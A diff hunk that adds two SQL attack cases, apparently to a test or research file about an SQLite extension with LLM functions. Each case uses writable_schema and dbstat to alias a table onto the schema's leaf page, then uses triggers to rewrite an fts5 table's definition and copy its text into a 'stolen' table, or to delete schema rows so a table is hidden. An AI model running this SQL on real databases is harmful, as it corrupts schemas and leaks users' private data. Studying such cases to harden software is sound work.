@@ -132,6 +132,39 @@ UPDATE sqlite_schema SET rootpage = (SELECT pageno FROM dbstat WHERE name IN ('s
 -- victim
 INSERT INTO notes VALUES ('private');
 
+--- the same in what a module reads: the row of the virtual table is another when the ledger is asked
+PRAGMA page_size = 512;
+VACUUM;
+CREATE TABLE pad1(x /* a comment of some length, so that this row takes its place on the page of the schema, one */);
+CREATE TABLE pad2(x /* a comment of some length, so that this row takes its place on the page of the schema, two */);
+CREATE TABLE pad3(x /* a comment of some length, so that this row takes its place on the page of the schema, three */);
+CREATE TABLE pad4(x /* a comment of some length, so that this row takes its place on the page of the schema, four */);
+CREATE VIRTUAL TABLE ft USING fts5(text, content='llm_texts', content_rowid='rowid');
+CREATE TABLE stolen(x);
+CREATE TABLE notes(t TEXT);
+CREATE TABLE leaf(type text, name text, tbl_name text, rootpage int, sql text);
+CREATE TRIGGER tr BEFORE INSERT ON notes BEGIN UPDATE leaf SET sql = 'CREATE VIRTUAL TABLE ft USING fts5(text)' WHERE name = 'ft'; INSERT INTO stolen SELECT text FROM ft; END;
+PRAGMA writable_schema = ON;
+UPDATE sqlite_schema SET rowid = 1000 WHERE name = 'ft';
+UPDATE sqlite_schema SET rootpage = (SELECT pageno FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf' AND path = (SELECT max(path) FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf') LIMIT 1) WHERE name = 'leaf';
+-- victim
+INSERT INTO notes VALUES ('private');
+
+--- the same with the row gone, and the table that lies there hidden from who goes by the rows
+PRAGMA page_size = 512;
+VACUUM;
+CREATE TABLE pad1(x /* a comment of some length, so that this row takes its place on the page of the schema, one */);
+CREATE TABLE pad2(x /* a comment of some length, so that this row takes its place on the page of the schema, two */);
+CREATE TABLE pad3(x /* a comment of some length, so that this row takes its place on the page of the schema, three */);
+CREATE TABLE pad4(x /* a comment of some length, so that this row takes its place on the page of the schema, four */);
+CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
+CREATE TABLE leaf(type text);
+CREATE TRIGGER tr BEFORE INSERT ON notes BEGIN DELETE FROM leaf; END;
+PRAGMA writable_schema = ON;
+UPDATE sqlite_schema SET rootpage = (SELECT pageno FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf' AND path = (SELECT max(path) FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf') LIMIT 1) WHERE name = 'leaf';
+-- victim
+INSERT INTO notes VALUES ('private');
+
 --- the same page for two tables: a CHECK that is looked up under another name
 CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
 CREATE TABLE clean(t TEXT);
